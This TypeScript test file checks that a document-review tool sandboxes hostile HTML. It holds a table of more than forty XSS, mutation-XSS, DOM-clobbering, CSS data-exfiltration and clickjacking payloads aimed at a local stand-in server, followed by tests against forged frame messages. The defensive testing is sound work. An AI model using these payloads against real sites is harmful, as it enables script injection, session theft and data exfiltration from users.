import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { htmlDocument } from '../../supervisor/threads/document/html/html-document.ts';
import type { SessionInfo } from '../../shared/session/session.ts';
import { openNewPage, openPage } from '../helpers/browser.ts';
import { htmlFrame } from '../helpers/html-frame.ts';
import { sessionPath } from '../helpers/paths.ts';
import { reviewsInBrowser } from '../helpers/reviews-in-browser.ts';

const { reviews, browser } = await reviewsInBrowser();

/** Whom hostile markup would call. */
let server: Server;
let away: string;
const called: string[] = [];

beforeAll(async () => {
  server = createServer((request, response) => {
    called.push(request.url ?? '');
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.end('parent.pwned = 1; window.pwned = 1');
  });
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  away = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => {
  server.close();
  server.closeAllConnections();
});

const run = "top.pwned=1;window.pwned=1;document.title='pwned'";

/** Each tries to run something, to load something, to go elsewhere, or to reach the API. `AWAY` is another server. */
const vectors: Readonly<Record<string, string>> = {
  script: `<script>${run}</script>`,
  'script from elsewhere': `<script src="AWAY/1.js"></script>`,
  'module script': `<script type="module">${run}</script>`,
  'script in the session': `<script src="/api/session"></script>`,
  'image that fails': `<img src="x:" onerror="${run}">`,
  'image that loads': `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${run}">`,
  'image from elsewhere': `<img src="AWAY/2.png">`,
  'image candidates': `<img srcset="AWAY/3.png 1x, AWAY/4.png 2x">`,
  'picture source': `<picture><source srcset="AWAY/5.png"><img src="x.png"></picture>`,
  'image by a path of two slashes': `<img src="//127.0.0.1:PORT/6.png">`,
  'image of the API': `<img src="/api/session"><img src="../../session"><img src="api/events">`,
  focus: `<input autofocus onfocus="${run}">`,
  'animation event': `<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationend="${run}">a</p>`,
  'details toggle': `<details open ontoggle="${run}"><summary>a</summary></details>`,
  'body events': `<body onload="${run}" onpageshow="${run}" onscroll="${run}">`,
  'svg load': `<svg onload="${run}"></svg>`,
  'svg script': `<svg><script>${run}</script></svg>`,
  'svg script from elsewhere': `<svg><script href="AWAY/7.js"></script></svg>`,
  'svg animated link': `<svg><a><animate attributeName="href" values="javascript:${run}"/><text y="20">svg link</text></a></svg>`,
  'svg set': `<svg><set attributeName="onmouseover" to="${run}"/></svg>`,
  'svg use from elsewhere': `<svg><use href="AWAY/8.svg#a"/></svg>`,
  'svg image from elsewhere': `<svg><image href="AWAY/9.png" width="9" height="9"/></svg>`,
  'svg filter image': `<svg><filter id="f"><feImage href="AWAY/10.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  'svg foreign object': `<svg><foreignObject><iframe src="AWAY/11"></iframe><img src=x: onerror="${run}"></foreignObject></svg>`,
  'MathML link': `<math><mi href="javascript:${run}" xlink:href="javascript:${run}">m</mi></math>`,
  frame: `<iframe src="AWAY/12"></iframe>`,
  'frame with source': `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  'frame with script address': `<iframe src="javascript:${run}"></iframe>`,
  'frame of the API': `<iframe src="/api/session"></iframe>`,
  object: `<object data="AWAY/13"></object><object data="data:text/html,<script>${run}</script>"></object>`,
  embed: `<embed src="AWAY/14">`,
  applet: `<applet codebase="AWAY/15" code="a"></applet>`,
  portal: `<portal src="AWAY/16"></portal><fencedframe src="AWAY/17"></fencedframe>`,
  media: `<video src="AWAY/18" poster="AWAY/19" autoplay onerror="${run}"></video><audio src="AWAY/20" autoplay></audio>`,
  redirect: `<meta http-equiv="refresh" content="0;url=AWAY/21">`,
  'redirect to a script': `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  'policy by markup': `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  base: `<base href="AWAY/"><img src="22.png"><link rel="stylesheet" href="23.css">`,
  'style sheet from elsewhere': `<link rel="stylesheet" href="AWAY/24.css">`,
  'style import': `<style>@import url("AWAY/25.css"); @import "AWAY/26.css";</style>`,
  'style image': `<style>body{background:url(AWAY/27.png)} p::before{content:url(AWAY/28.png)}</style><p>a</p>`,
  'style attribute': `<p style="background-image:image-set(url(AWAY/29.png) 1x);cursor:url(AWAY/30.cur),auto">a</p>`,
  'font from elsewhere': `<style>@font-face{font-family:e;src:url(AWAY/31.woff2)}p{font-family:e}</style><p>a</p>`,
  'values by style': `<style>input[value^="s"]{background:url(AWAY/32)}</style><input value="secret">`,
  'style by a data address': `<link rel="stylesheet" href="data:text/css,@import url(AWAY/33.css)">`,
  preloads: `<link rel="preload" as="image" href="AWAY/34.png"><link rel="prefetch" href="AWAY/35"><link rel="modulepreload" href="AWAY/36.js"><link rel="preconnect" href="AWAY"><link rel="dns-prefetch" href="AWAY"><link rel="prerender" href="AWAY/37">`,
  icons: `<link rel="icon" href="AWAY/38.ico"><link rel="manifest" href="AWAY/39.json">`,
  speculation: `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["AWAY/40"]}]}</script>`,
  form: `<form id="away" action="AWAY/41" method="post"><input name="a" value="b"><button id="send">Send</button></form>`,
  'form action of a button': `<form><button id="send2" formaction="javascript:${run}">Send</button></form>`,
  'form by image': `<form action="AWAY/42"><input id="send3" type="image" src="AWAY/43.png"></form>`,
  'script link': `<a id="link1" href="javascript:${run}">script link</a>`,
  'script link with a tab': `<a id="link2" href="java&#9;script:${run}">script link</a>`,
  'link to a window': `<a id="link3" href="AWAY/44" target="_blank">away</a>`,
  'link to the top': `<a id="link4" href="AWAY/45" target="_top" ping="AWAY/46">away</a>`,
  'link to the page': `<a id="link5" href="/" target="_parent">page</a>`,
  'download link': `<a id="link6" href="AWAY/47" download>away</a>`,
  'image map': `<map name="m"><area id="area" shape="rect" coords="0,0,50,50" href="AWAY/48"></map><img usemap="#m" src="x.png" width="50" height="50">`,
  'svg link': `<svg width="90" height="30"><a id="link7" href="AWAY/49"><text y="20">svg away</text></a></svg>`,
  clobbering: `<img name="createElement"><form id="addEventListener"><input id="parentNode" name="querySelector"></form><img name="body"><a id="parent"></a><a id="top"></a>`,
  'shadow root': `<div><template shadowrootmode="open"><img src="x:" onerror="${run}"><slot></slot></template></div>`,
  'custom element': `<p is="evil-p"><x-evil onclick="${run}">x</x-evil></p>`,
  mutation: `<noscript><p title="</noscript><img src=x: onerror=${run}>"></noscript>`,
  'mutation in tables': `<svg></p><style><a id="</style><img src=1 onerror=${run}>"></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  overlay: `<a id="overlay" href="AWAY/50" target="_top" style="position:fixed;inset:0;z-index:2147483647;opacity:0">x</a>`,
};

const hostile = (): string =>
  Object.values(vectors).join('\n').replaceAll('AWAY', away).replaceAll('PORT', new URL(away).port);

const nothing = { ran: false, title: false };

const ran = () => ({
  ran: (globalThis as { pwned?: number }).pwned !== undefined,
  title: document.title.includes('pwned'),
});

/** What ran in each frame that is there. */
const whatRan = (page: Page): Promise<{ ran: boolean; title: boolean }[]> =>
  Promise.all(
    page.frames().map(async (frame) => {
      const asking = frame.evaluate(ran);
      // Browsers replace frames that they have refused to load.
      return asking.catch((error: unknown) => {
        if (frame.isDetached()) return nothing;
        throw error;
      });
    }),
  );

it('has more than forty vectors', () => {
  expect(Object.keys(vectors).length).toBeGreaterThan(40);
});

describe('a hostile HTML file', () => {
  it('runs nothing, loads nothing from elsewhere, and goes nowhere', async () => {
    await writeFile(join(reviews.folder, 'hostile.html'), hostile());
    const { session } = await reviews.openAwaited(['document', 'hostile.html']);
    const { page } = await openPage(browser, session.url);
    const frame = await htmlFrame(page);
    const pages = page.context().pages().length;
    // Everything that waits for a click, also from the keyboard.
    for (const selector of [
      '#send',
      '#send2',
      '#send3',
      '#link1',
      '#link2',
      '#link3',
      '#link4',
      '#link5',
      '#link6',
      '#area',
      '#link7',
      '#overlay',
    ])
      await frame.locator(selector).first().dispatchEvent('click');
    await page.locator('.frame-page').click({ position: { x: 200, y: 200 } });
    await page.locator('.frame-page').click({ position: { x: 200, y: 200 }, button: 'middle' });
    await page.getByText(/^Link to /u).waitFor();
    expect(page.url()).toBe(`${session.url}/`);
    expect(page.context().pages()).toHaveLength(pages);
    expect(await htmlFrame(page)).toBe(frame);
    expect(page.frames()).toHaveLength(2);
    for (const one of await whatRan(page)) expect(one).toEqual(nothing);
    expect(called).toEqual([]);
    // It can neither read the page nor ask its server.
    const asked = await frame.evaluate(async (url) => {
      const reached = await fetch(url).then(
        () => 'reached',
        () => 'refused',
      );
      let page = 'refused';
      try {
        page = parent.document.title;
      } catch {
        // Another origin.
      }
      return { origin: self.origin, reached, page };
    }, `${session.url}/api/session`);
    expect(asked).toEqual({ origin: 'null', reached: 'refused', page: 'refused' });
  });

  // Without the first guard: the same markup straight in the frame, as if our script had drawn all of it.
  it('is held by the policy of the frame alone', async () => {
    await writeFile(join(reviews.folder, 'plain.html'), '<h1>Plain</h1>');
    const { session } = await reviews.openAwaited(['document', 'plain.html']);
    const { page } = await openPage(browser, session.url);
    const policy =
      (await fetch((await htmlFrame(page)).url())).headers.get('content-security-policy') ?? '';
    await page.route('**/as-it-is', (route) =>
      route.fulfill({
        contentType: 'text/html',
        headers: { 'Content-Security-Policy': policy },
        // No policy holds a redirect of the frame itself: what is drawn has none.
        body: hostile().replaceAll(/<meta http-equiv="refresh"[^>]*>/gu, ''),
      }),
    );
    await page.evaluate(() => {
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-scripts');
      frame.src = 'as-it-is';
      frame.dataset['test'] = 'raw';
      document.body.append(frame);
    });
    await expect
      .poll(() => page.frames().some((one) => one.url().endsWith('/as-it-is')))
      .toBe(true);
    const frame = page.frames().find((one) => one.url().endsWith('/as-it-is'));
    await expect.poll(() => frame?.evaluate(() => document.readyState)).toBe('complete');
    // What is framed in it is never loaded.
    for (const one of [frame, page.mainFrame()]) expect(await one?.evaluate(ran)).toEqual(nothing);
    expect(page.url()).toBe(`${session.url}/`);
    expect(called).toEqual([]);
  });

  // Without the second guard: what is drawn has no policy around it.
  it('is held by what is drawn of it alone', async () => {
    const { frame } = htmlDocument(hostile(), { isFromElsewhere: false });
    const { page } = await openNewPage(browser, 'about:blank');
    const script = await readFile('dist/web/review/frame.js', 'utf8');
    await page.route('https://outer.invalid/**', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: route.request().url().endsWith('frame')
          ? `<!doctype html><script>${script}</script>`
          : '<iframe src="frame"></iframe>',
      }),
    );
    await page.goto('https://outer.invalid/outer');
    await page.evaluate((document) => {
      const { port1, port2 } = new MessageChannel();
      const drawn = new Promise((resolve) => {
        port1.addEventListener('message', resolve, { once: true });
      });
      port1.start();
      window.frames[0]?.postMessage('port', '*', [port2]);
      port1.postMessage({ type: 'document', document });
      return drawn;
    }, frame);
    for (const one of await whatRan(page)) expect(one).toEqual(nothing);
    // Styles are the policy's.
    expect(called.filter((path) => !/^\/(?:2[4-9]|3[0-3])/u.test(path))).toEqual([]);
  });

  // Without both: a frame that says what it likes, on the port that is meant for Galley's own script.
  it('is not believed, and not heard more than a person could say', async () => {
    await writeFile(join(reviews.folder, 'liar.html'), '<h1>Liar</h1><p>Words of it.</p>');
    const { session } = await reviews.openAwaited(['document', 'liar.html']);
    const { page } = await openNewPage(browser, 'about:blank');
    const assets = sessionPath('getAsset', { params: { key: '', rest: '' } }).replace(/\/+$/u, '/');
    await page.route(
      (url) => url.pathname.startsWith(assets),
      (route) =>
        route.fulfill({
          contentType: 'text/html',
          body: '<script>onmessage = ({ ports: [port] }) => { globalThis.port ??= port; port.postMessage({ type: "drawn", height: 60, hidden: 0 }) }</script>',
        }),
    );
    await page.goto(session.url);
    const frame = await htmlFrame(page);
    const say = (...messages: object[]) =>
      frame.evaluate((all) => {
        const { port } = globalThis as unknown as { readonly port: MessagePort };
        for (const message of all) port.postMessage(message);
      }, messages);
    const key = (name: string, ...modifiers: string[]) => ({
      type: 'key',
      key: name,
      code: name,
      modifiers,
    });

    // No key counts before the reviewer is in the frame, and no place that is not there.
    await say(key('Enter', 'ctrlKey'));
    await page.locator('.frame-page').click();
    await say({ type: 'decide' }, { type: 'drawn', height: 1e12, hidden: 0 });
    await say({
      type: 'selection',
      ranges: [
        [1, 0, 5],
        [9999, 0, 5],
      ],
      rect: [0, 0, 9, 9],
    });
    await page.getByRole('toolbar', { name: 'Selected text' }).waitFor();
    await say({ type: 'link', address: `javascript:${run}` });
    await page.getByText('Link to javascript:').waitFor();
    expect(await page.getByRole('dialog').count()).toBe(0);

    // So many keys come from no person.
    await page.evaluate(() => {
      const counted = Object.assign(globalThis, { keys: 0 });
      addEventListener('keydown', ({ key: pressed }) => {
        if (pressed === 'F9') counted.keys += 1;
      });
    });
    const since = performance.now();
    await say(...Array.from({ length: 1000 }, () => key('F9')));
    await expect
      .poll(async () => {
        await say({ type: 'link', address: 'the end' });
        return page.getByText('Link to the end').count();
      })
      .toBe(1);
    const heard = await page.evaluate(() => (globalThis as unknown as { keys: number }).keys);
    expect(heard).toBeGreaterThan(0);
    expect(heard).toBeLessThan(201 + (performance.now() - since) * 0.06);

    // Keys open what the reviewer sees then, and decide nothing.
    const dialog = page.getByRole('dialog', { name: 'Submit review' });
    await expect
      .poll(async () => {
        await say(key('Enter', 'ctrlKey'), key('Enter', 'ctrlKey'), key('Enter'));
        return dialog.count();
      })
      .toBe(1);
    expect(await page.evaluate(ran)).toEqual(nothing);
    const info = (await (await fetch(`${session.url}/api/session`)).json()) as SessionInfo;
    expect([info.state, info.held]).toEqual(['running', undefined]);
  });
});
